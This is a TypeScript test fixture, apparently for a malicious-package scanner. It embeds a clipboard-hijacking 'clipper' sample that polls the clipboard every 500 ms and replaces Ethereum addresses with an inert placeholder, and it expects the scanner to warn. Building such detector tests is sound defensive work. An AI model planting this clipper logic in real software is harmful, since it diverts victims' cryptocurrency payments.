import type { Specimen } from '../specimen.ts';

export const specimen: Specimen = {
  name: 'incident-clipper',
  from: 'base58-core, 2026: addresses in the clipboard exchanged by a timer',
  files: {
    'package.json': { name: 'incident', version: '1.0.0', dependencies: { clipboardy: '2.3.0' } },
    'index.js': `const clipboard = require('clipboardy');
const ours = 'INERT-ADDRESS';
const shape = /^0x[a-fA-F0-9]{40}$/;
setInterval(() => {
  const text = clipboard.readSync();
  if (shape.test(text)) clipboard.writeSync(ours);
}, 500);
`,
  },
  expect: 'warn',
  says: ['watches-clipboard'],
};
